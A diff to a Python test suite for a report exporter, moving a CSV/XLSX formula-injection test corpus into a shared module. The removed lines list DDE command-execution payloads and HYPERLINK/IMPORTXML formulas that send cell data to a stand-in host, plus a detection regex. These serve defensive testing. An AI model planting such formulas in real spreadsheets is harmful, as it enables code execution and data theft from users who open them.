@@ -13,11 +13,12 @@ from typing import Any
 
 import pytest
 from pypdf import PdfReader
+from tests.hostile import FORMULAS, is_formula
 
 from retention import policy
 from retention.findings import COUNTS, Line, Purge, Report, Span, request_on
 from retention.paper import as_pdf, evidence
-from retention.tables import as_csv, as_json, as_jsonl, inert
+from retention.tables import as_csv, as_json, as_jsonl
 from retention.workbook import HEADINGS, as_xlsx
 from shared.wording import translations, translator
 
@@ -180,65 +181,14 @@ def test_what_proves_a_pdf_is_attached_to_it() -> None:
     assert own.sha256 in "".join(p.extract_text() for p in PdfReader(io.BytesIO(pdf(made))).pages)
 
 
-SIGNS = (
-    "=",
-    "+",
-    "-",
-    "@",
-    "\uff1d",
-    "\uff0b",
-    "\uff0d",
-    "\uff20",
-    "\t=",
-    "\r=",
-    "\n=",
-    " =",
-    "\u200b=",
-)
-CORPUS = [
-    *(f"{sign}1+1" for sign in SIGNS),
-    "\t1",
-    "\r1",
-    "=cmd|' /C calc'!A0",
-    '=HYPERLINK("http://x.example/?"&A1,"see")',
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    '+DDE("cmd";"/C calc";"!A0")',
-    "-2+3+cmd|' /C calc'!A0",
-    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
-    "a;=1+1",
-    "a\t=1+1",
-    "a\n=1+1",
-    'x","=1+1',
-    '";=1+1;"',
-]  # fmt: skip
-FORMULA = re.compile(r"[\s\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
-
-
-@pytest.mark.parametrize("text", CORPUS)
-def test_no_cell_of_csv_is_a_formula(text: str) -> None:
-    """Whatever a spreadsheet takes for the separator; what is text for it begins otherwise."""
-    out = io.StringIO()
-    csv.writer(out).writerow([inert(text)])
-    for separator in ",;\t|":
-        for row in csv.reader(io.StringIO(out.getvalue()), delimiter=separator):
-            for cell in row:
-                assert not any(FORMULA.match(part) for part in cell.splitlines())
-    assert inert(text).replace("'", "") == text.replace("'", "")
-
-
-@pytest.mark.parametrize("text", ["2032-01-01", "crm: 3; billing: 4", "a-b", "01a20aae-0446", ""])
-def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
-    assert inert(text) == text
-
-
 def test_the_corpus_goes_through_csv_as_holders_are_named() -> None:
-    for text in CORPUS:
+    for text in FORMULAS:
         found = replace(line("billing.invoice", held=1), awaiting={text: 3})
         rows = list(csv.reader(io.StringIO(as_csv(replace(report(), lines=[found])).decode())))
-        assert not any(FORMULA.match(cell) for row in rows for cell in row)
+        assert not any(is_formula(cell) for row in rows for cell in row)
 
 
-@pytest.mark.parametrize("text", CORPUS)
+@pytest.mark.parametrize("text", FORMULAS)
 def test_no_cell_of_a_workbook_is_a_formula(text: str) -> None:
     book = zipfile.ZipFile(io.BytesIO(as_xlsx(report(text), str)))
     written = b"".join(book.read(name) for name in book.namelist() if "sheet" in name)
